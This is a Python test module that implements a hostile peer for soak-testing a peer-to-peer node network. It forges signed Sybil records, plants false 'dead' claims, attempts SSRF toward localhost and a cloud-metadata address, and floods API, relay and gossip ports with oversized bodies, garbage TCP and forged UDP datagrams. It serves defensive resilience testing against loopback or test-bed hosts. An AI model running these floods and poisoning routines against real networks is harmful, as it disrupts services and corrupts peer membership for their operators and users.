"""A hostile peer: signs whatever it likes and floods every port of its victims.

It uses only what any stranger has: a key it made a moment ago, the victims' open
``/status`` and ``/peers`` answers, and their ports. Every loop stops by itself at the
deadline; traffic goes only to the targets given (loopback or test-bed hosts).

Run standalone (the soak does, inside the hostile namespace)::

    python -m tests.hostile.attacker --duration 30 --own 198.51.100.14 \
        198.51.100.11:8088 198.51.100.12:8088
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import os
import random
import socket
import sys
import time
from collections import Counter
from dataclasses import dataclass, field
from typing import Any

import httpx
import msgpack

from p2prc.identity import Identity
from p2prc.peers.records import Claim, PeerRecord

__all__ = ["Attacker", "Target", "fake_record", "signed_datagram"]

_MAGIC = b"P2G1"
_HUGE = 256 * 1024 * 1024


def _packb(value: Any) -> bytes:
    data: bytes = msgpack.packb(value, use_bin_type=True)
    return data


def fake_record(
    identity: Identity,
    *,
    addresses: tuple[str, ...] = ("127.0.0.9",),
    port: int = 18198,
    version: int | None = None,
    name: str = "sybil",
) -> PeerRecord:
    """A well-signed record for ``identity`` saying whatever the attacker wants."""
    record = PeerRecord(
        node_id=identity.node_id,
        public_key=identity.public_key,
        name=name,
        version=int(time.time() * 1000) if version is None else version,
        addresses=addresses,
        api_port=port,
        gossip_port=port,
        relay_port=port,
        behind_nat=False,
    )
    # Sign by hand: PeerRecord.signed() may refuse what a hostile peer sends anyway.
    message = b"p2prc-record-v1" + _packb(record.body())
    return PeerRecord(**{**_fields(record), "signature": identity.sign(message)})


def _fields(record: PeerRecord) -> dict[str, Any]:
    return {name: getattr(record, name) for name in PeerRecord.__dataclass_fields__}


def signed_claim(identity: Identity, kind: str, target: str, version: int) -> Claim:
    """A claim signed by the attacker, at any version it likes."""
    claim = Claim(kind, target, version, identity.node_id, identity.public_key)
    return Claim(
        kind,
        target,
        version,
        identity.node_id,
        identity.public_key,
        identity.sign(b"p2prc-claim-v1" + _packb(claim.body())),
    )


def record_update(record: PeerRecord) -> list[Any]:
    return [0, *record.body(), record.signature]


def claim_update(claim: Claim) -> list[Any]:
    return [1, *claim.body(), claim.signature]


def signed_datagram(
    identity: Identity, kind: str, updates: list[list[Any]], seq: int = 1, target: str = ""
) -> bytes:
    """A SWIM datagram from ``identity`` carrying ``updates``."""
    payload = _MAGIC + _packb([identity.node_id, kind, seq, target, updates])
    return payload + identity.sign(payload)


def exchange_payload(records: list[PeerRecord], claims: list[Claim]) -> bytes:
    """The classic push-pull body: every record and claim the attacker wants to plant."""
    return _packb([[r.encode() for r in records], [c.encode() for c in claims]])


@dataclass
class Target:
    """One victim: where its API and gossip listen, and who it says it is."""

    host: str
    port: int
    node_id: str = ""
    gossip_port: int = 0
    relay_port: int = 0
    record_versions: dict[str, int] = field(default_factory=dict)

    @property
    def base(self) -> str:
        host = f"[{self.host}]" if ":" in self.host else self.host
        return f"http://{host}:{self.port}"


@dataclass
class Attacker:
    """The hostile node: one key of its own, and as many throwaway keys as it likes."""

    targets: list[Target]
    own_address: str
    deadline: float
    identity: Identity = field(default_factory=Identity.generate)
    sent: Counter[str] = field(default_factory=Counter)
    answers: Counter[str] = field(default_factory=Counter)

    def alive(self) -> bool:
        return time.monotonic() < self.deadline

    async def learn(self, client: httpx.AsyncClient) -> None:
        """Read each victim's open /status and /peers (what any stranger can)."""
        for target in self.targets:
            with contextlib.suppress(httpx.HTTPError, ValueError, KeyError, TypeError):
                status = (await client.get(f"{target.base}/status")).json()
                target.node_id = str(status["node_id"])
                peers = (await client.get(f"{target.base}/peers")).json()
                if isinstance(peers, dict):
                    peers = peers.get("peers", [])
                for view in peers:
                    target.record_versions[str(view["node_id"])] = int(view["version"])
                    if view.get("me"):
                        target.gossip_port = int(view.get("gossip_port") or target.port)
                        target.relay_port = int(view.get("relay_port") or 0)
            target.gossip_port = target.gossip_port or target.port

    # Signed HTTP -------------------------------------------------------------------

    async def _signed_post(
        self,
        client: httpx.AsyncClient,
        target: Target,
        path: str,
        body: bytes,
        *,
        identity: Identity | None = None,
        headers: dict[str, str] | None = None,
        kind: str,
    ) -> None:
        signer = identity or self.identity
        signed = signer.signed_headers("POST", path, target.node_id, body)
        try:
            response = await client.post(
                f"{target.base}{path}", content=body, headers={**signed, **(headers or {})}
            )
            self.answers[f"{kind}:{response.status_code}"] += 1
        except httpx.HTTPError as exc:
            self.answers[f"{kind}:{type(exc).__name__}"] += 1
        self.sent[kind] += 1

    async def join(self, client: httpx.AsyncClient, gossip_port: int) -> None:
        """Become a member everywhere: one exchange with the attacker's own record."""
        me = fake_record(self.identity, addresses=(self.own_address,), port=gossip_port)
        for target in self.targets:
            await self._signed_post(
                client,
                target,
                "/peers/exchange",
                exchange_payload([me], []),
                headers={"content-type": "application/msgpack"},
                kind="join",
            )

    def poison(self) -> tuple[list[PeerRecord], list[Claim]]:
        """Every lie at once: deadly claims, far-future versions, host names, third parties."""
        victims: dict[str, int] = {}
        for target in self.targets:
            victims.update(target.record_versions)
            if target.node_id:
                victims.setdefault(target.node_id, int(time.time() * 1000))
        claims = []
        for node_id, version in victims.items():
            claims.append(signed_claim(self.identity, "dead", node_id, 2**62 - 1))
            claims.append(signed_claim(self.identity, "dead", node_id, version + 10**9))
            claims.append(signed_claim(self.identity, "suspect", node_id, version + 1))
        records = [
            fake_record(Identity.generate(), addresses=("localhost",)),
            fake_record(Identity.generate(), addresses=("::1",)),
            fake_record(Identity.generate(), addresses=("169.254.169.254/latest#",)),
            fake_record(Identity.generate(), version=2**62 - 1),
        ]
        return records, claims

    async def exchange_flood(self, client: httpx.AsyncClient) -> None:
        """Thousands of fresh self-signed members, then every lie, over and over."""
        while self.alive():
            for target in self.targets:
                if not self.alive():
                    return
                sybils = [fake_record(Identity.generate()) for _ in range(500)]
                records, claims = self.poison()
                payload = exchange_payload(sybils + records, claims)
                await self._signed_post(
                    client,
                    target,
                    "/peers/exchange",
                    payload,
                    identity=Identity.generate(),
                    headers={"content-type": "application/msgpack"},
                    kind="exchange",
                )
            await asyncio.sleep(0.5)

    async def nonce_flood(self, client: httpx.AsyncClient, workers: int = 8) -> None:
        """Signed calls from untrusted keys (they used to fill the shared nonce table)."""

        async def one() -> None:
            keys = [Identity.generate() for _ in range(4)]
            while self.alive():
                for target in self.targets:
                    await self._signed_post(
                        client, target, "/whoami", b"", identity=random.choice(keys), kind="nonce"
                    )
                await asyncio.sleep(0.01)

        await asyncio.gather(*(one() for _ in range(workers)))

    async def reachability_scan(self, client: httpx.AsyncClient) -> None:
        """Ask victims to dial a third party (X-Forwarded-For) and their own loopback."""
        while self.alive():
            for target in self.targets:
                body = json.dumps({"port": 22}).encode()
                await self._signed_post(
                    client,
                    target,
                    "/reachability",
                    body,
                    headers={"content-type": "application/json", "x-forwarded-for": "127.0.0.9"},
                    kind="reachability",
                )
            await asyncio.sleep(0.2)

    # Raw sockets -------------------------------------------------------------------

    async def huge_bodies(self) -> None:
        """Claim 256 MiB bodies on body routes and stream until the victim hangs up."""
        chunk = os.urandom(1024 * 1024)
        paths = ["/containers", "/map-port", "/peers/exchange", "/meta"]
        while self.alive():
            for target in self.targets:
                path = random.choice(paths)
                head = (
                    f"POST {path} HTTP/1.1\r\nHost: {target.host}\r\n"
                    f"Content-Type: application/json\r\nContent-Length: {_HUGE}\r\n\r\n"
                ).encode()
                sent = await self._stream(target.host, target.port, head, chunk, 64)
                self.sent["huge_body"] += 1
                self.answers[f"huge_body_mib:{min(sent, 64) // 16 * 16}+"] += 1
            await asyncio.sleep(0.2)

    async def _stream(self, host: str, port: int, head: bytes, chunk: bytes, chunks: int) -> int:
        """Send ``head`` then up to ``chunks`` chunks; returns how many MiB went out."""
        sent = 0
        with contextlib.suppress(OSError, TimeoutError):
            async with asyncio.timeout(10):
                reader, writer = await asyncio.open_connection(host, port)
                try:
                    writer.write(head)
                    for _ in range(chunks):
                        if not self.alive() or reader.at_eof():
                            break
                        writer.write(chunk)
                        await writer.drain()
                        sent += 1
                finally:
                    writer.close()
        return sent

    async def garbage_tcp(self, port_of: str) -> None:
        """Junk bytes, half requests and idle connections on the API (and relay) ports."""
        held: list[asyncio.StreamWriter] = []
        try:
            while self.alive():
                for target in self.targets:
                    port = target.port if port_of == "api" else target.relay_port
                    if not port:
                        continue
                    with contextlib.suppress(OSError, TimeoutError):
                        async with asyncio.timeout(2):
                            _, writer = await asyncio.open_connection(target.host, port)
                        writer.write(random.choice([os.urandom(512), b"GET / HTTP/1.1\r\nX: "]))
                        held.append(writer)
                        self.sent[f"garbage_{port_of}"] += 1
                while len(held) > 200:
                    held.pop(0).close()
                await asyncio.sleep(0.02)
        finally:
            for writer in held:
                writer.close()

    async def udp_flood(self, sock: socket.socket) -> None:
        """Garbage, forged and signed-but-lying datagrams on every gossip port."""
        loop = asyncio.get_running_loop()
        records, claims = self.poison()
        updates = [record_update(r) for r in records] + [claim_update(c) for c in claims]
        seq = 0
        while self.alive():
            for target in self.targets:
                seq += 1
                address = (target.host, target.gossip_port)
                lying = signed_datagram(self.identity, "ping", random.sample(updates, 3), seq)
                forged = signed_datagram(Identity.generate(), "ping", [], seq)
                sybil = [record_update(fake_record(Identity.generate()))]
                for data in (
                    os.urandom(random.randint(1, 1400)),
                    _MAGIC + os.urandom(200),
                    forged,
                    lying,
                    signed_datagram(self.identity, "gossip", sybil, seq),
                    signed_datagram(self.identity, "ping_req", [], seq, target="f" * 32),
                ):
                    with contextlib.suppress(OSError):
                        await loop.sock_sendto(sock, data, address)
                        self.sent["udp"] += 1
            await asyncio.sleep(0.005)

    async def run(self) -> dict[str, Any]:
        """Every attack at once until the deadline; returns what was sent and answered."""
        sock = socket.socket(socket.AF_INET6 if ":" in self.own_address else socket.AF_INET,
                             socket.SOCK_DGRAM)  # fmt: skip
        sock.bind((self.own_address, 0))
        sock.setblocking(False)
        limits = httpx.Limits(max_connections=64, max_keepalive_connections=32)
        try:
            async with httpx.AsyncClient(timeout=10, limits=limits) as client:
                await self.learn(client)
                await self.join(client, sock.getsockname()[1])
                attacks = [
                    self.exchange_flood(client),
                    self.nonce_flood(client),
                    self.reachability_scan(client),
                    self.huge_bodies(),
                    self.garbage_tcp("api"),
                    self.garbage_tcp("relay"),
                    self.udp_flood(sock),
                ]
                await asyncio.gather(*attacks)
        finally:
            sock.close()
        return {"sent": dict(self.sent), "answers": dict(self.answers)}


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("targets", nargs="+", help="HOST:PORT of each victim's API")
    parser.add_argument("--own", required=True, help="the attacker's own address")
    parser.add_argument("--duration", type=float, default=30.0)
    args = parser.parse_args(argv)
    targets = []
    for text in args.targets:
        host, _, port = text.rpartition(":")
        targets.append(Target(host.strip("[]"), int(port)))
    attacker = Attacker(targets, args.own, time.monotonic() + min(args.duration, 600.0))
    report = asyncio.run(attacker.run())
    print(json.dumps(report), file=sys.stdout, flush=True)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
